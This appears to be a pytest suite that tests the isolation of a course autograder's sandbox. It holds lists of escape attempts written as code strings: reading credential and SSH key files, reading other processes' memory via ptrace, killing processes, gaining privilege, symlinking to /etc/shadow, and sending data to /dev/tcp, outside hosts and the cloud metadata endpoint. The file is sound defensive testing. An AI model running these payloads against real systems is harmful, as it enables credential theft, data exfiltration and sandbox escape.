"""A case reaches nothing of the machine (attacks 34, 35, 40, 42 to 44, 46 to 48, 50, 58, 76, 82, 83, 92 to 94).

Every test tries all ways at once, expressions whose outcomes come back in a message (`tries`), with something beside
them that works, so that a refusal means something.
"""

import contextlib
import os
import re
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from course.judge.isolation import Isolation
from course.lessons import ROOT, lessons_named
from tests.attacks.arena import SECRET
from tests.attacks.conftest import Attack, AttackFolder, Needs
from tests.attacks.submissions import at_import, grep, solution
from tests.attacks.tries import NOT_ALLOWED, NOT_THERE, open_folder, outcomes, require_refused, trying

CHECKS = {"p13": "bad_pattern_raises_in_caller", "t01": "values_and_order"}
READS = {
    "opened": "open({0!r}).read()",
    "by_descriptor": "os.read(os.open({0!r}, os.O_RDONLY | os.O_NOFOLLOW), 99)",
    "by_root": "open('/proc/self/root' + {0!r}).read()",
    "by_first_process": "open('/proc/1/root' + {0!r}).read()",
    "from_below": "open('../' * 20 + {0!r}[1:]).read()",
    "from_a_folder": "os.open({0!r}[1:], os.O_RDONLY, dir_fd=os.open('/', os.O_PATH))",
    "by_link": "(os.symlink({0!r}, 'a-link'), open('a-link').read())",
    "by_hard_link": "(os.link({0!r}, 'a-hard-link'), open('a-hard-link').read())",
    "copied": "shutil.copy({0!r}, 'a-copy') and open('a-copy').read()",
    "by_lines": "linecache.getline({0!r}, 1) or os.stat('/nothing')",
    "by_loader": "importlib.machinery.SourceFileLoader('x', {0!r}).get_data({0!r})",
    "searched": "next(glob.iglob(os.path.dirname({0!r}) + '/*'), None) or os.stat('/nothing')",
}
READS_BY_PROGRAMS = {
    "by_cat": "ran('cat', {0!r})",
    "by_shell": "ran('sh', '-c', 'cat < ' + {0!r})",
    "by_find": "ran('sh', '-c', 'cat $(find / -xdev -maxdepth 4 -name ' + os.path.basename({0!r}) + ') </dev/null')",
    "by_sudo": "ran('sudo', '-n', 'cat', {0!r})",
    "by_git": "ran('git', 'config', '--list', '--file', {0!r})",
}
WRITES = {
    "written": "open({0!r}, 'w').write('10')",
    "appended": "open({0!r}, 'a').write('mallory,10')",
    "updated": "open({0!r}, 'r+').write('x')",
    "truncated": "os.truncate({0!r}, 0)",
    "removed": "os.remove({0!r})",
    "renamed": "os.rename({0!r}, {0!r} + '.old')",
    "replaced": "(open('mine', 'w').write('10'), os.replace('mine', {0!r}))",
    "linked": "os.link({0!r}, 'mine too')",
    "opened_to_all": "os.chmod({0!r}, 0o777)",
    "owned": "os.chown({0!r}, os.getuid(), -1)",
    "dated": "os.utime({0!r}, (0, 0))",
    "by_a_link": "(os.symlink({0!r}, 'a link'), open('a link', 'w').write('10'))",
    "tree_removed": "shutil.rmtree(os.path.dirname({0!r}))",
    "beside_it": "open(os.path.dirname({0!r}) + '/left-behind', 'w')",
    "folder_made": "os.mkdir(os.path.dirname({0!r}) + '/left-behind-too')",
    "database": "sqlite3.connect({0!r}).execute('create table grades (points)')",
}
WRITES_BY_PROGRAMS = {
    "by_echo": "ran('sh', '-c', 'echo 10 > {0} && echo done')",
    "by_mount": "ran('sh', '-c', 'mount -o remount,rw / && echo 10 > {0} && echo done')",
    "by_a_daemon": "ran('sh', '-c', '(setsid sh -c \"echo 10 > {0}\" &) ; test -s {0} && echo done')",
}
FIRST = """
import glob, importlib.machinery, linecache, shutil, sqlite3, subprocess
def ran(*command):
    done = subprocess.run(command, capture_output=True, text=True)
    return done.stdout or os.stat("/nothing")
"""
TEXT_OF = """
import glob
def text_of(path):
    try:
        with open(path) as file:
            return file.read()
    except OSError:
        return ""
"""
# Of an open file's refusals; sqlite has an error of its own.
REFUSED = NOT_THERE | NOT_ALLOWED | {"OperationalError"}
GRADEBOOK = f"mallory,3\nalice,10,{SECRET}\n"


@pytest.fixture
def gradebook() -> Iterator[Path]:
    """A file that every user of the machine may read and write; it has to be as it was."""
    with open_folder() as folder:
        path = folder / "gradebook.csv"
        path.write_text(GRADEBOOK)
        path.chmod(0o666)
        os.utime(path, (1_000_000, 1_000_000))
        before = path.stat()
        yield path
        after = path.stat()
        assert path.read_text() == GRADEBOOK
        assert [each.name for each in folder.iterdir()] == [path.name]
        assert (after.st_mtime, after.st_mode, after.st_uid, after.st_nlink) == (
            *(before.st_mtime, before.st_mode, before.st_uid, before.st_nlink),
        )


def test_no_way_leads_to_a_file_of_the_machine(attack: Attack, gradebook: Path, needs: Needs) -> None:
    """40, 43, 47, 50: neither to read nor to write it; in virtual time, and where other programs may be started."""
    needs("read", "write")
    ways = {**READS, **WRITES}
    for key, more in (("t01", {}), ("p13", {**READS_BY_PROGRAMS, **WRITES_BY_PROGRAMS})):
        tries = {name: way.format(str(gradebook)) for name, way in {**ways, **more}.items()}
        attacked = attack(key, trying(tries, first=FIRST), CHECKS[key])
        assert attacked.points == 0
        require_refused(attacked.said, tries, REFUSED)


def test_of_the_repository_only_the_lab_is_there(attack: Attack, needs: Needs) -> None:
    """40, 43, 47: no file, no source of a module, no package data of the judge, and nothing of its git."""
    needs("read")
    hidden = ["graders/t01_quotes/test_quotes.py", "graders/t01_quotes/lesson.toml", "course/judge/grading.py", ".git"]
    hidden += ["solutions/t01_quotes/quotes.py", "graders", "solutions", "exercises", "tests", ".git/config"]
    there = [path for path in hidden if (ROOT / path).exists()]
    assert len(there) >= 8
    tries = {f"opened_{number}": f"open({str(ROOT / path)!r}).read()" for number, path in enumerate(there)}
    tries |= {f"listed_{number}": f"os.listdir({str(ROOT / path)!r})" for number, path in enumerate(there)}
    for name in ("course.judge.grading", "course.judge.plugin", "course.lessons"):
        tries[name.replace(".", "_")] = f"importlib.util.find_spec({name!r}).loader.get_source({name!r})"
    for number, path in enumerate(("judge/grading.py", "../graders/t01_quotes/test_quotes.py")):
        tries[f"data_{number}"] = f"pkgutil.get_data('course', {path!r})"
    why = NOT_THERE | NOT_ALLOWED | {"ModuleNotFoundError", "AttributeError"}
    for key, check in CHECKS.items():
        attacked = attack(key, trying(tries, first="import importlib.util, pkgutil"), check)
        require_refused(attacked.said, tries, why)


def test_nothing_of_the_machine_is_written_to(attack: Attack, needs: Needs) -> None:
    """50: a case's own folder is its own, and goes with it."""
    needs("write")
    places = ("/usr/lib", "/etc", "/", "/run", "/var/tmp", "/dev", str(Path(os.__file__).parent))
    tries = {f"at_{number}": f"open({place!r} + '/left-behind', 'w')" for number, place in enumerate(places)}
    own = "open('left-behind', 'w').write('mine')"
    require_refused(attack("p13", trying(tries, first=own), CHECKS["p13"]).said, tries)


def test_no_open_file_leads_out(attack: Attack) -> None:
    """40: a case has its three standard files, which are empty, and the pipe for its results."""
    listed = "[os.readlink(path) for path in glob.glob('/proc/self/fd/*') if os.path.lexists(path)]"
    tries = {"descriptors": f"' '.join(sorted({listed}))"}
    found = outcomes(attack("p13", trying(tries, first="import glob"), CHECKS["p13"]).said)
    assert re.fullmatch(r"GOT '/dev/null /dev/null /dev/null pipe:\[\d+\]'", found["descriptors"])


def test_the_environment_is_ours(attack_folder: AttackFolder, monkeypatch: pytest.MonkeyPatch, needs: Needs) -> None:
    """34, 46, 58: five variables of our own making, for a case's programs as well; the runner's are not among them."""
    needs("memory")
    looks = """
import glob, os, re, subprocess
texts = [repr(os.environ), repr(os.environb)]
for path in glob.glob("/proc/*/environ") + ["/proc/self/environ", "/proc/thread-self/environ"]:
    try:
        with open(path) as file:
            texts.append(file.read())
    except OSError:
        continue
seen = {**os.environ} | dict(pair.split("=", 1) for text in texts[2:] for pair in text.split(chr(0)) if "=" in pair)
"""
    starts = """
for command in (["env"], ["sh", "-c", "export -p"]):
    texts.append(subprocess.run(command, capture_output=True, text=True).stdout)
assert "PATH" in texts[-1] and "PATH" in texts[-2]
"""
    tells = 'leaks = re.findall("secret-[0-9a-f]{24}", "".join(texts))\nraise RuntimeError(f"{leaks=} {sorted(seen)=}")'
    for name in ("GITHUB_TOKEN", "GITHUB_OUTPUT", "CI", "ACTIONS_RUNTIME_TOKEN", "PYTEST_ADDOPTS_TOKEN", "PYTHONTOKEN"):
        monkeypatch.setenv(name, SECRET)

    def lay_out(folder: Path) -> None:
        (folder / "p13_grep" / "grep.py").write_text(looks + starts + tells)
        (folder / "t01_quotes" / "quotes.py").write_text(looks + tells)

    result, _ = attack_folder(lay_out, "p13", "t01")
    for lesson in result.lessons:
        assert lesson.points == 0
        told = re.search(r"leaks=\[\] sorted\(seen\)=(\[.*?\])", lesson.problem)
        assert told, lesson.problem
        seen = set(re.findall(r"'(\w+)'", told[1]))
        ours = {"HOME", "LANG", "PATH", "PYTHONHASHSEED", "TMPDIR"}
        # Python (PEP 538) and bubblewrap set theirs on the way, and in real mode the lab: where the judge waits.
        assert ours <= seen <= ours | {"LC_CTYPE", "PWD", "COURSE_MEETING", "PYTHONBREAKPOINT"}


def test_no_file_of_a_workflow_or_a_home_is_reached(
    attack_folder: AttackFolder, monkeypatch: pytest.MonkeyPatch, needs: Needs
) -> None:
    """34, 35, 47: files that a runner reads, credentials, the report; all are there, and open to everybody."""
    needs("read", "write")
    workflow = ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY")
    of_home = (".netrc", ".git-credentials", ".config/gh/hosts.yml", ".ssh/id_ed25519")
    with open_folder() as home:
        tries = {}
        for number, name in enumerate((*workflow, *of_home)):
            path = home / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(SECRET)
            path.chmod(0o666)
            tries[f"read_{number}"] = f"open({str(path)!r}).read()"
            tries[f"written_{number}"] = f"open({str(path)!r}, 'a').write('points=10')"
            tries[f"at_home_{number}"] = f"open(os.path.expanduser('~/{name}')).read()"
        monkeypatch.setenv("HOME", str(home))
        for name in workflow:
            monkeypatch.setenv(name, str(home / name))

        def lay_out(folder: Path) -> None:
            (folder / ".git").mkdir()
            (folder / ".git" / "config").write_text(f'[http "https://github.com/"]\n\textraheader = basic {SECRET}\n')
            tries["checkout"] = f"open({str(folder)!r} + '/.git/config').read()"
            tries["report"] = f"open({str(folder)!r} + '/junit.xml', 'w')"
            tries["result"] = "[open(path, 'w') for path in glob.glob('/tmp/course-*/*')][0]"
            tries["command_line"] = (
                "[line for line in map(text_of, glob.glob('/proc/[0-9]*/cmdline')) if 'junit' in line][0]"
            )
            (folder / "p13_grep" / "grep.py").write_text(trying(tries, first=TEXT_OF))

        result, _ = attack_folder(lay_out, "p13")
        assert {path.read_text() for path in home.rglob("*") if path.is_file()} == {SECRET}
    assert result.points == 0
    require_refused(result.lessons[0].problem, tries, NOT_THERE | NOT_ALLOWED | {"IndexError"})


def test_hand_ins_and_results_stay_as_they_are(attack_folder: AttackFolder, needs: Needs) -> None:
    """35, 50, 76: a right module that tries to change its own file, another student's and the judge's."""
    needs("write")
    targets: dict[Path, bytes] = {}

    def lay_out(folder: Path) -> None:
        other = folder.parent / "bob" / "p13_grep" / "grep.py"
        other.parent.mkdir(parents=True)
        other.write_text("import re\n")
        paths = [folder / "p13_grep" / "grep.py", other, ROOT / "graders/p13_grep/test_grep.py", folder / "junit.xml"]
        tries = {f"at_{number}": f"open({str(path)!r}, 'r+').write('0')" for number, path in enumerate(paths)}
        swallowed = trying(tries, end="assert 'GOT' not in told.partition('GOT')[2], told")
        paths[0].write_text(at_import("p13", swallowed))
        targets.update({path: path.read_bytes() for path in paths[:3]})

    result, _ = attack_folder(lay_out, "p13")
    assert result.points == 10, result.lessons
    assert {path: path.read_bytes() for path in targets} == targets


OF_A_PROCESS = {
    "environ": "open('/proc/{0}/environ').read()",
    "memory": "open('/proc/{0}/mem', 'rb').read(1)",
    "maps": "open('/proc/{0}/maps').read()",
    "arguments": "open('/proc/{0}/cmdline').read()",
    "descriptors": "os.listdir('/proc/{0}/fd')",
    "descriptor": "open('/proc/{0}/fd/0').read(1)",
    "root": "os.listdir('/proc/{0}/root/')",
    "folder": "os.listdir('/proc/{0}/cwd/')",
    "stack": "open('/proc/{0}/stack').read()",
    "slowed": "os.setpriority(os.PRIO_PROCESS, {0}, 19)",
    "moved": "os.sched_setaffinity({0}, {{0}})",
    "limited": "resource.prlimit({0}, resource.RLIMIT_CPU, (1, 1))",
    "attached": "call('ptrace', 16, {0}, None, None)",
    "seized": "call('ptrace', 0x4206, {0}, None, None)",
    "memory_read": "call('process_vm_readv', {0}, ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0)",
    "memory_written": "call('process_vm_writev', {0}, ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0)",
    "descriptor_taken": "call('syscall', 438, os.pidfd_open({0}), 0, 0)",
}
KILLS = {
    "stopped": "os.kill({0}, signal.SIGSTOP)",
    "killed": "os.kill({0}, signal.SIGKILL)",
    "group_killed": "os.killpg({0}, signal.SIGKILL)",
    "killed_by_descriptor": "signal.pidfd_send_signal(os.pidfd_open({0}), signal.SIGKILL)",
}
CALLS = """
import ctypes, resource, signal
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)
    return "it works"
page = ctypes.create_string_buffer(4096)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
vector = Vector(ctypes.addressof(page), 1)
"""


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A process of the judge's user, in a group of its own, with a secret in its environment and memory."""
    command = [sys.executable, "-I", "-c", "input()"]
    environment = {"PLANTED": SECRET}
    with subprocess.Popen(command, env=environment, stdin=subprocess.PIPE, start_new_session=True) as process:
        yield process
        process.communicate(b"\n")
        assert process.returncode == 0  # neither killed nor stopped


def test_no_other_process_is_reached(attack: Attack, victim: subprocess.Popen[bytes], needs: Needs) -> None:
    """44, 82: neither one of the judge's user, nor the judge, nor the warden and the starter above; by C calls as well.

    What would end the judge is left out: it is the process that runs this test.
    """
    needs("memory", "signal")
    above = "' + str(os.getppid()) + '"
    tries = {f"victim_{name}": way.format(victim.pid) for name, way in {**OF_A_PROCESS, **KILLS}.items()}
    tries |= {f"judge_{name}": way.format(os.getpid()) for name, way in OF_A_PROCESS.items()}
    tries |= {
        f"above_{name}": OF_A_PROCESS[name].format(above) for name in ("environ", "memory", "descriptors", "root")
    }
    tries |= {f"warden_{name}": way.format("os.getppid()") for name, way in KILLS.items() if name != "group_killed"}
    attacked = attack("p13", trying(tries, first=CALLS), CHECKS["p13"])
    assert attacked.points == 0
    require_refused(attacked.said, tries)
    assert victim.poll() is None
    simulated = attack("t01", f"import os\nos.kill({victim.pid}, {int(signal.SIGKILL)})\n", CHECKS["t01"])
    assert "sending a signal (os.kill)" in simulated.said


def test_a_case_has_a_process_table_of_its_own(attack: Attack, isolation: Isolation, needs: Needs) -> None:
    """44, 58, 92: it shows the warden, and neither the judge nor another case; nothing there tells of a grader."""
    needs("memory")
    looks = f"""{TEXT_OF}
import os, socket, sys
words = ("pytest", "grad", "judge", "submission", "github", "ci':", "autotest", "classroom", "course check")
seen = {{
    "arguments": " ".join([*sys.argv, *sys.orig_argv]),
    "processes": " ".join(map(text_of, glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/comm"))),
    "variables": str(dict(os.environ)),
    "folders": " ".join([os.getcwd(), *sys.path[:1], *glob.glob("/run/*"), *glob.glob("/run/*/*")]),
    "host": socket.gethostname(),
}}
signs = sorted((place, word) for place, text in seen.items() for word in words if word in text.lower())
others = sorted(int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid())
raise RuntimeError(f"{{signs=}} {{others=}};")
"""
    said = attack("p13", looks, CHECKS["p13"]).said
    assert "signs=[]" in said
    if "namespaces" in isolation.layers:
        assert "others=[1];" in said


def test_no_memory_holds_what_only_the_judge_knows(attack: Attack, isolation: Isolation) -> None:
    """42, 83: not even a worker's own, which Landlock closes. What is planted there shows that the look works."""
    pages = """
import re
planted = "-".join(["planted", "by", "mallory"])
def pages():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            begin, end = (int(bound, 16) for bound in line.split()[0].split("-"))
            if "w" in line.split()[1] and end - begin <= 200 << 20:
                memory.seek(begin)
                yield memory.read(end - begin)
def found():
    return {each for page in pages() for each in re.findall(rb"secret-[0-9a-f]{24}|planted-by-mall[o]ry", page)}
"""
    for key, check in CHECKS.items():
        attacked = attack(key, trying({"memory": "found()"}, first=pages), check)
        assert attacked.points == 0
        closed = "Landlock" in isolation.layers
        assert outcomes(attacked.said)["memory"] == ("EACCES" if closed else "GOT \"{b'planted-by-mallory'}\"")


def test_no_privilege_is_gained(attack: Attack, isolation: Isolation) -> None:
    """93: namespaces, mounts, chroot, other users and setuid programs are refused inside of the jail."""
    if isolation.holes:
        pytest.skip("this machine leaves something open: see its isolation")
    programs = (
        *("unshare -Ur true", "unshare -m true", "unshare -n true", "sudo -n true", "mount -t tmpfs none /tmp"),
        *("chroot / true", "bwrap --ro-bind / / true", "nsenter -t 1 -m true", "setpriv --reuid=0 true", "su -c true"),
    )
    tries = {f"program_{number}": f"ran(*{program.split()!r})" for number, program in enumerate(programs)}
    tries |= {"root": "os.chroot('/')", "user": "os.setuid(0)", "group": "os.setgid(0)", "groups": "os.setgroups([0])"}
    first = """
import subprocess
def ran(*command):
    if subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL).returncode:
        raise PermissionError(1, "refused")
"""
    require_refused(attack("p13", trying(tries, first=first), CHECKS["p13"]).said, tries)


def test_what_is_left_for_others_to_follow_goes_with_the_case(attack: Attack) -> None:
    """94: links, pipes and devices, wherever the judge or a later case might come by."""
    traps = """
import os
made = []
for place in (os.getcwd(), os.environ["TMPDIR"], "/dev/shm", "/run/meetings", "/tmp", "/"):
    for name, make in {
        "link": lambda path: os.symlink("/etc/shadow", path),
        "loop": lambda path: os.symlink(path, path),
        "device": lambda path: os.mknod(path, 0o600 | 0o020000, os.makedev(1, 1)),
        "pipe": lambda path: os.mkfifo(path),
        "hard": lambda path: os.link("/proc/self/exe", path),
    }.items():
        try:
            make(f"{place}/left-behind-{name}")
            made.append(name)
        except OSError:
            pass
"""
    assert attack("t01", solution("t01") + traps, CHECKS["t01"]).points == 2
    said = attack("t01", f"{traps}raise RuntimeError(sorted(made))\n", CHECKS["t01"]).said
    assert "'link'" in said
    assert "'device'" not in said


SENDS = """
import socket, subprocess, urllib.request
def tcp(address, family=socket.AF_INET):
    with socket.socket(family) as connection:
        connection.settimeout(1)
        connection.connect(address)
        return connection.send(b"leaked")
def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        return connection.sendto(b"leaked", address)
def local(address):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(address)
        return connection.send(b"leaked")
def url(address):
    try:
        return urllib.request.urlopen(address, timeout=1).read()
    except urllib.error.URLError as error:
        raise error.reason
def shell(text):
    done = subprocess.run(["bash", "-c", text], capture_output=True, text=True)
    return "sent" if done.returncode == 0 else os.stat("/nothing")
"""
LOOPBACK = """
with socket.create_server(("127.0.0.1", 0)) as server:
    with socket.create_connection(server.getsockname(), 1) as client:
        client.send(b"to myself")
        assert server.accept()[0].recv(99) == b"to myself"
"""
SENT_TO = {
    "tcp": "tcp(('127.0.0.1', {port}))",
    "tcp_by_name": "tcp(('localhost', {port}))",
    "tcp_of_the_machine": "tcp(({machine!r}, {port}))",
    "tcp_6": "tcp(('::1', {port}), socket.AF_INET6)",
    "tcp_by_shell": "shell('echo leaked > /dev/tcp/127.0.0.1/{port}')",
    "udp_of_the_machine": "udp(({machine!r}, {udp}))",
    "udp_outside": "udp(('192.0.2.1', 53))",
    "metadata": "tcp(('169.254.169.254', 80))",
    "metadata_by_url": "url('http://169.254.169.254/latest/meta-data/')",
    "outside": "tcp(('192.0.2.1', 443))",
    "name": "socket.getaddrinfo('github.com', 443)",
    "socket_file": "local({folder!r} + '/service.sock')",
    "socket_file_by_root": "local('/proc/1/root' + {folder!r} + '/service.sock')",
    "abstract": "local('\\0' + {abstract!r})",
    "docker": "local('/var/run/docker.sock')",
    "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
}


def test_nothing_is_sent_out(attack: Attack, needs: Needs) -> None:
    """48: a case has a network of its own, with nobody in it but itself; services of the machine are not reached."""
    needs("network", "sockets")
    with open_folder() as folder, contextlib.ExitStack() as stack:
        tcp = stack.enter_context(socket.create_server(("", 0)))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("", 0))
        abstract = f"planted-{os.getpid()}-{folder.name}"
        local = [stack.enter_context(socket.socket(socket.AF_UNIX)) for _ in range(2)]
        for server, address in zip(local, (f"{folder}/service.sock", f"\0{abstract}"), strict=True):
            server.bind(address)
            server.listen()
        (folder / "service.sock").chmod(0o666)
        told = {"port": tcp.getsockname()[1], "udp": udp.getsockname()[1], "machine": _address_of_machine()}
        names = {"folder": str(folder), "abstract": abstract}
        tries = {name: way.format(**told, **names) for name, way in SENT_TO.items()}
        attacked = attack("p13", trying(tries, first=SENDS + LOOPBACK), CHECKS["p13"])
        unreachable = {"ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH", "gaierror"}
        require_refused(attacked.said, tries, NOT_THERE | NOT_ALLOWED | unreachable)
        simulated = attack("t01", trying({"tcp": tries["tcp"]}, first=SENDS), CHECKS["t01"])
        assert "a network connection" in simulated.said
        for server in (tcp, udp, *local):
            server.setblocking(False)
            with pytest.raises(BlockingIOError):
                server.recv(99) if server is udp else server.accept()


def _address_of_machine() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 53))  # sends nothing: the kernel only says from where it would
        except OSError:
            return "127.0.0.1"
        address: str = probe.getsockname()[0]
        return address


def test_no_scenario_holds_what_only_the_judge_compares_with(attack: Attack) -> None:
    """43: scenarios travel to the workers, and can be read there; none compares, requires or imports the judge."""
    shows = grep("raise RuntimeError(open('scenarios.py').read(60))")
    assert "Scenarios: how the checks drive a student's" in attack("p13", shows, "equals_serial").said
    for lesson in lessons_named([])[0]:
        assert not [word for word in ("course.judge", "assert ", "expected") if word in lesson.scenarios]
